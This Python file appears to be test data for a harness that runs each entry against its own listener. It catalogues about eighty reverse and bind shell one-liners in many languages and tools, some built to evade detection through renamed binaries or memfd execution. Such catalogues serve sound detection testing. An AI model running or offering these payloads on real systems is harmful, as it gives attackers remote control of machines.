"""Reverse and bind shells as they are seen in the wild, each run for real against a listener of the test.

`{H}` and `{P}` are the listener's address and port, `{Q}` its second port.
"""

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Shell:
    """One way to a shell. A text is given to `sh -c`; a tuple is run as it is."""

    name: str
    attack: str | tuple[str, ...]
    image: str = "debian"
    listener: str = "tcp"
    user: str = "0"


PYTHON_DIAL = "import socket,os,subprocess,pty;s=socket.create_connection(('{H}',{P}));"
PYTHON_DUP = PYTHON_DIAL + "[os.dup2(s.fileno(),n) for n in (0,1,2)];"

PYTHON_RELAY = (
    PYTHON_DIAL + "import threading\n"
    "p=subprocess.Popen(['/bin/sh','-i'],stdin=-1,stdout=-1,stderr=-2,bufsize=0)\n"
    "def up():\n"
    " while d:=s.recv(999): p.stdin.write(d)\n"
    "threading.Thread(target=up,daemon=True).start()\n"
    "while d:=p.stdout.read(999): s.sendall(d)\n"
)

PYTHON_BIND = (
    "import socket,os;l=socket.create_server(('0.0.0.0',4444));s,_=l.accept();"
    "[os.dup2(s.fileno(),n) for n in (0,1,2)];os.execv('/bin/sh',['sh','-i'])"
)

PYTHON_MEMFD = (
    PYTHON_DUP + "m=os.memfd_create('x',1);os.write(m,open('/opt/payload','rb').read());"
    "os.execve(m,['sh','-i'],{{}}) if m in os.supports_fd else os.execv('/proc/self/fd/%d'%m,['sh','-i'])"
)

PERL = (
    'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,sockaddr_in({P},inet_aton("{H}")));'
    'open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");'
)
PERL_IO = (
    "use IO::Socket;$c=new IO::Socket::INET(PeerAddr,'{H}:{P}');STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"
)
PHP_RELAY = (
    '$s=fsockopen("{H}",{P});$p=proc_open("/bin/sh -i",[["pipe","r"],["pipe","w"],["pipe","w"]],$io);'
    "foreach([$io[0],$io[1],$io[2],$s] as $f)stream_set_blocking($f,0);"
    "while(!feof($s)){{$r=[$s,$io[1],$io[2]];$w=$e=null;if(!stream_select($r,$w,$e,9))break;"
    "foreach($r as $f){{$d=fread($f,999);if($d!=='')fwrite($f===$s?$io[0]:$s,$d);}}}}"
)
NODE = (
    "const n=require('net'),c=require('child_process'),s=n.connect({P},'{H}',()=>{{"
    "const h=c.spawn('/bin/sh',['-i']);s.pipe(h.stdin);"
    "h.stdout.pipe(s);h.stderr.pipe(s);h.on('exit',()=>process.exit())}});"
)
GAWK = 'BEGIN{{s="/inet/tcp/0/{H}/{P}";while((s|&getline c)>0){{while((c|&getline o)>0)print o|&s;close(c);}}close(s)}}'
TCL = "set s [socket {H} {P}];fconfigure $s -buffering none;exec /bin/sh -i <@$s >@$s 2>@$s"

SHELLS = (
    # bash and its kin open connections themselves
    Shell("bash-devtcp", "bash -c 'bash -i >& /dev/tcp/{H}/{P} 0>&1'"),
    Shell("bash-devtcp-196", "bash -c '0<&196;exec 196<>/dev/tcp/{H}/{P}; sh <&196 >&196 2>&196'"),
    Shell("bash-devtcp-5", "bash -c 'bash -i 5<>/dev/tcp/{H}/{P} 0<&5 1>&5 2>&5'"),
    Shell("bash-devtcp-login", "bash -c 'bash -l >/dev/tcp/{H}/{P} 0<&1 2>&1'", user="1000"),
    Shell("bash-read-line", "bash -c 'exec 5<>/dev/tcp/{H}/{P}; while read -r l <&5; do eval \"$l\" >&5 2>&5; done'"),
    Shell("bash-exec-in-place", "bash -c 'exec 0<>/dev/tcp/{H}/{P} 1>&0 2>&0; while read -r l; do eval \"$l\"; done'"),
    Shell("bash-devudp", "bash -c 'sh -i >& /dev/udp/{H}/{P} 0>&1'", listener="udp"),
    Shell("ksh-devtcp", "ksh -c 'ksh >/dev/tcp/{H}/{P} 2>&1 <&1'"),
    Shell("zsh-ztcp", "zsh -c 'zmodload zsh/net/tcp && ztcp {H} {P} && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    Shell("setsid-background", "setsid bash -c 'bash -i >& /dev/tcp/{H}/{P} 0>&1' & sleep 9"),
    # pipes between a shell and a tool
    Shell("mkfifo-nc-openbsd", "mkfifo /tmp/f;sh -i </tmp/f 2>&1 | nc.openbsd {H} {P} >/tmp/f"),
    Shell("mkfifo-cat-nc", "mkfifo /tmp/f;cat /tmp/f | bash -i 2>&1 | nc.traditional {H} {P} >/tmp/f", user="1000"),
    Shell("mknod-backpipe", "mknod /tmp/b p; nc.traditional {H} {P} 0</tmp/b | /bin/bash 1>/tmp/b"),
    Shell("telnet-fifo", "mkfifo /tmp/f;(telnet {H} {P} </tmp/f;sleep 1) | sh >/tmp/f"),
    Shell("telnet-sh-telnet", "sleep 9 | telnet {H} {P} | sh | telnet {H} {Q}"),
    Shell(
        "openssl", "mkfifo /tmp/s;sh -i </tmp/s 2>&1 | openssl s_client -quiet -connect {H}:{P} >/tmp/s", listener="tls"
    ),
    Shell("curl-telnet", "mkfifo /tmp/f;sh -i </tmp/f 2>&1 | curl -sNT . telnet://{H}:{P} >/tmp/f"),
    Shell("ncat-pipe", "mkfifo /tmp/f;sh </tmp/f 2>&1 | ncat --ssl {H} {P} >/tmp/f", listener="tls"),
    Shell("busybox-fifo-nc", "mkfifo /tmp/f;sh -i </tmp/f 2>&1 | nc {H} {P} >/tmp/f", "busybox"),
    Shell("busybox-fifo-nc-user", "mkfifo /tmp/f;sh -i </tmp/f 2>&1 | nc {H} {P} >/tmp/f", "busybox", user="1000"),
    Shell("busybox-telnet", "mkfifo /tmp/f;(telnet {H} {P} </tmp/f;sleep 1) | sh >/tmp/f", "busybox"),
    # tools that run a program themselves
    Shell("nc-traditional-e", "nc.traditional -e /bin/sh {H} {P}"),
    Shell("nc-traditional-c", "nc.traditional -c 'exec bash -i' {H} {P}", user="1000"),
    Shell("ncat-e", "ncat -e /bin/bash {H} {P}"),
    Shell("ncat-ssl-c", "ncat --ssl -c 'exec sh' {H} {P}", listener="tls"),
    Shell("ncat-udp-e", "ncat --udp -c 'echo hello; exec sh' {H} {P}", listener="udp"),
    Shell("busybox-nc-e", "nc {H} {P} -e sh", "busybox"),
    Shell("socat-exec", "socat TCP:{H}:{P} EXEC:/bin/sh"),
    Shell("socat-pipes", "socat TCP:{H}:{P} EXEC:/bin/sh,pipes"),
    Shell("socat-pty", "socat TCP:{H}:{P} EXEC:'bash -li',pty,stderr,setsid,sigint,sane", user="1000"),
    Shell("socat-openssl", "socat OPENSSL:{H}:{P},verify=0 EXEC:/bin/sh", listener="tls"),
    Shell("socat-nofork", "socat TCP:{H}:{P} EXEC:/bin/sh,nofork"),
    # languages
    Shell("python-dup2", ("python3", "-c", PYTHON_DUP + "subprocess.call(['/bin/sh','-i'])")),
    Shell("python-pty", ("python3", "-c", PYTHON_DUP + "pty.spawn('/bin/bash')"), user="1000"),
    Shell("python-popen-pipes", ("python3", "-c", PYTHON_RELAY)),
    Shell(
        "python-renamed-shell",
        (
            "python3",
            "-c",
            PYTHON_DUP + "__import__('shutil').copy('/bin/bash','/tmp/httpd');os.execv('/tmp/httpd',['httpd'])",
        ),
    ),
    Shell(
        "python-symlink-shell",
        ("python3", "-c", PYTHON_DUP + "os.symlink('/bin/dash','/tmp/httpd');os.execv('/tmp/httpd',['httpd'])"),
        user="1000",
    ),
    Shell(
        "python-hardlink-shell",
        ("python3", "-c", PYTHON_DUP + "os.link('/bin/dash','/bin/httpd');os.execv('/bin/httpd',['httpd'])"),
    ),
    Shell("python-memfd-shell", ("python3", "-c", PYTHON_MEMFD)),
    Shell("perl-dup", ("perl", "-e", PERL)),
    Shell("perl-io-system", ("perl", "-MIO", "-e", PERL_IO), user="1000"),
    Shell(
        "ruby-spawn", ("ruby", "-rsocket", "-e", 'spawn("sh",[:in,:out,:err]=>TCPSocket.new("{H}",{P}));Process.wait')
    ),
    Shell("php-exec-fd", ("php", "-r", '$s=fsockopen("{H}",{P});exec("/bin/sh -i <&3 >&3 2>&3");')),
    Shell(
        "php-proc-open",
        ("php", "-r", '$s=fsockopen("{H}",{P});proc_close(proc_open("sh",[$s,$s,$s],$x));'),
        user="1000",
    ),
    Shell("php-proc-open-pipes", ("php", "-r", PHP_RELAY)),
    Shell(
        "lua-execute",
        ("lua5.4", "-e", 'local s=require("socket").tcp();s:connect("{H}",{P});os.execute("sh -i <&3 >&3 2>&3")'),
    ),
    Shell("node-spawn", ("node", "-e", NODE)),
    Shell("gawk-inet", ("gawk", GAWK)),
    Shell("tcl-exec", "echo '" + TCL + "' | tclsh"),
    # our own tool, static: as root, as a user, from images without a shell
    Shell("c-dup", ("/opt/hand", "dup", "{H}", "{P}", "/bin/sh"), user="1000"),
    Shell("c-dup-static", ("/opt/hand", "dup", "{H}", "{P}", "/opt/payload"), "static"),
    Shell("c-no-dup", ("/opt/hand", "low", "{H}", "{P}", "/bin/bash")),
    Shell("c-daemon", "/opt/hand daemon {H} {P} /bin/sh; sleep 9"),
    Shell("c-thread", ("/opt/hand", "thread", "{H}", "{P}", "/bin/sh"), "busybox"),
    Shell("c-pipes", ("/opt/hand", "pipes", "{H}", "{P}", "/bin/sh"), "busybox", user="1000"),
    Shell("c-pipes-late", ("/opt/hand", "late", "{H}", "{P}", "/bin/sh")),
    Shell("c-pipes-static", ("/opt/hand", "pipes", "{H}", "{P}", "/opt/payload"), "static"),
    Shell("c-socketpair", ("/opt/hand", "pair", "{H}", "{P}", "/bin/sh")),
    Shell("c-pty", ("/opt/hand", "pty", "{H}", "{P}", "/bin/sh"), "busybox"),
    Shell("c-passed-connection", ("/opt/hand", "pass", "{H}", "{P}", "/bin/sh")),
    Shell("c-memfd", ("/opt/hand", "memfd", "{H}", "{P}", "/opt/payload"), "static", user="1000"),
    Shell("c-udp", ("/opt/hand", "udp", "{H}", "{P}", "/bin/sh"), listener="udp"),
    Shell("c-datagrams", ("/opt/hand", "datagrams", "{H}", "{P}", "/bin/sh"), listener="udp"),
    Shell("c-icmp", ("/opt/hand", "icmp", "{H}", "{P}", "/bin/sh"), listener="icmp"),
    Shell("c-io-uring", ("/opt/hand", "uring", "{H}", "{P}", "/bin/sh")),
    Shell(
        "distroless-python-exec",
        ("/usr/bin/python3", "-c", PYTHON_DUP + "os.execv('/opt/payload',['sh','-i'])"),
        "python",
    ),
    Shell("distroless-python-memfd", ("/usr/bin/python3", "-c", PYTHON_MEMFD), "python", user="1000"),
    # relays with a terminal
    Shell("script-relay", "mkfifo /tmp/f;script -qfc 'sh -i' /dev/null </tmp/f | nc.openbsd {H} {P} >/tmp/f"),
    Shell("script-devtcp", "script -qc \"bash -c 'bash >& /dev/tcp/{H}/{P} 0>&1'\" /dev/null"),
    # bind shells: the attacker calls
    Shell("bind-nc-e", "nc.traditional -l -p 4444 -e /bin/sh", listener="bind"),
    Shell("bind-ncat", "ncat -l 4444 -e /bin/bash", listener="bind", user="1000"),
    Shell("bind-busybox", "nc -ll -p 4444 -e sh", "busybox", "bind"),
    Shell("bind-socat", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh", listener="bind"),
    Shell("bind-socat-pty", "socat TCP-LISTEN:4444,reuseaddr,fork EXEC:/bin/sh,pty,stderr", listener="bind"),
    Shell("bind-fifo", "mkfifo /tmp/f;sh </tmp/f 2>&1 | nc.openbsd -l -p 4444 >/tmp/f", listener="bind"),
    Shell("bind-python", ("python3", "-c", PYTHON_BIND), listener="bind", user="1000"),
    Shell("bind-c-static", ("/opt/hand", "bind", "0.0.0.0", "4444", "/opt/payload"), "static", "bind"),
)
